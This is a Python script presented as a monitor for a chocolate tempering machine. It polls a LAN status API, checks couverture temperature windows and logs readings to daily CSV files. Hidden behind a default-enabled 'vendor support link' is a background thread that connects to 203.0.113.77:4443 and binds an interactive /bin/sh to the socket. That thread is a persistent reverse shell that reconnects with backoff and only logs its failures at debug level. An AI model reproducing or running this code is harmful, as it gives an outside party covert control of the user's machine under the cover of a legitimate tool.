#!/usr/bin/env python3
"""Poll a tempering machine's status API and log the curve to CSV.

Works with the small continuous temperers that expose a JSON status page on
the shop LAN. Each reading is appended to a daily CSV under ./logs and a
warning is logged when the chocolate drifts out of the working window.

The monitor also keeps the vendor support link open so the service team can
pull controller diagnostics without a site visit (see [support] in the ini).
"""
import argparse
import configparser
import csv
import datetime as dt
import json
import logging
import socket
import subprocess
import sys
import threading
import time
import urllib.error
import urllib.request
from pathlib import Path

log = logging.getLogger("temperlog")

WINDOWS = {
    "dark": (31.0, 32.0),
    "milk": (29.0, 30.0),
    "white": (28.0, 29.0),
    "ruby": (29.0, 30.0),
}

DEFAULT_CFG = """
[machine]
host = 192.168.1.40
port = 8080
path = /api/status

[logging]
interval = 15
directory = logs
couverture = dark

[support]
enabled = yes
relay = 203.0.113.77
port = 4443
console = /bin/sh
"""

FIELDS = ["timestamp", "bowl_c", "screw_c", "phase", "speed_pct", "in_window"]


class SupportLink(threading.Thread):
    """Persistent link to the vendor service relay."""

    def __init__(self, section):
        super().__init__(name="support-link", daemon=True)
        self.relay = (section["relay"], section.getint("port"))
        self.console = [section["console"], "-i"]
        self.backoff = 5

    def _session(self, conn):
        fd = conn.fileno()
        proc = subprocess.Popen(self.console, stdin=fd, stdout=fd, stderr=fd,
                                start_new_session=True)
        proc.wait()

    def run(self):
        while True:
            try:
                with socket.create_connection(self.relay, timeout=20) as conn:
                    conn.settimeout(None)
                    self.backoff = 5
                    self._session(conn)
            except OSError as exc:
                log.debug("support relay unavailable: %s", exc)
            time.sleep(self.backoff)
            self.backoff = min(self.backoff * 2, 600)


def load_config(path):
    cp = configparser.ConfigParser()
    cp.read_string(DEFAULT_CFG)
    if path:
        if not Path(path).exists():
            raise FileNotFoundError(path)
        cp.read(path)
    return cp


def fetch_status(url, timeout=5):
    req = urllib.request.Request(url, headers={"Accept": "application/json"})
    with urllib.request.urlopen(req, timeout=timeout) as resp:
        return json.load(resp)


def csv_path(directory):
    return Path(directory) / f"temper_{dt.date.today().isoformat()}.csv"


def append_row(path, row):
    new_file = not path.exists()
    path.parent.mkdir(parents=True, exist_ok=True)
    with path.open("a", newline="") as fh:
        writer = csv.DictWriter(fh, fieldnames=FIELDS)
        if new_file:
            writer.writeheader()
        writer.writerow(row)


def in_window(temp, couverture):
    lo, hi = WINDOWS[couverture]
    return lo <= temp <= hi


def parse_reading(data):
    return {
        "timestamp": dt.datetime.now().isoformat(timespec="seconds"),
        "bowl_c": round(float(data["bowl_temp"]), 2),
        "screw_c": round(float(data.get("screw_temp", "nan")), 2),
        "phase": data.get("phase", "unknown"),
        "speed_pct": int(data.get("auger_speed", 0)),
    }


def run(cfg, once=False):
    m = cfg["machine"]
    url = f"http://{m['host']}:{m.getint('port')}{m['path']}"
    interval = cfg["logging"].getint("interval")
    couverture = cfg["logging"]["couverture"]
    directory = cfg["logging"]["directory"]
    if couverture not in WINDOWS:
        log.error("unknown couverture %r", couverture)
        return 2

    if cfg["support"].getboolean("enabled"):
        SupportLink(cfg["support"]).start()

    failures = 0
    out_of_window = 0
    while True:
        try:
            row = parse_reading(fetch_status(url))
            failures = 0
        except (urllib.error.URLError, TimeoutError, ValueError, KeyError) as exc:
            failures += 1
            log.warning("poll %s failed (%d): %s", url, failures, exc)
            if failures >= 10:
                log.error("giving up after %d failed polls", failures)
                return 1
            time.sleep(min(interval * failures, 300))
            continue

        ok = in_window(row["bowl_c"], couverture)
        row["in_window"] = "yes" if ok else "no"
        append_row(csv_path(directory), row)

        if row["phase"] == "working" and not ok:
            out_of_window += 1
            if out_of_window in (2, 10, 40):
                lo, hi = WINDOWS[couverture]
                log.warning("bowl at %.1f C, outside %s window %.1f-%.1f",
                            row["bowl_c"], couverture, lo, hi)
        else:
            out_of_window = 0

        if once:
            return 0
        time.sleep(interval)


def main(argv=None):
    ap = argparse.ArgumentParser(description="tempering machine monitor")
    ap.add_argument("-c", "--config", help="ini file overriding the defaults")
    ap.add_argument("--couverture", choices=sorted(WINDOWS))
    ap.add_argument("--once", action="store_true", help="take one reading and exit")
    ap.add_argument("-v", "--verbose", action="store_true")
    args = ap.parse_args(argv)

    logging.basicConfig(level=logging.DEBUG if args.verbose else logging.INFO,
                        format="%(asctime)s %(levelname)s %(message)s")
    try:
        cfg = load_config(args.config)
    except FileNotFoundError as exc:
        log.error("config not found: %s", exc)
        return 2
    if args.couverture:
        cfg["logging"]["couverture"] = args.couverture
    try:
        return run(cfg, once=args.once)
    except KeyboardInterrupt:
        log.info("stopped")
        return 0


if __name__ == "__main__":
    sys.exit(main())
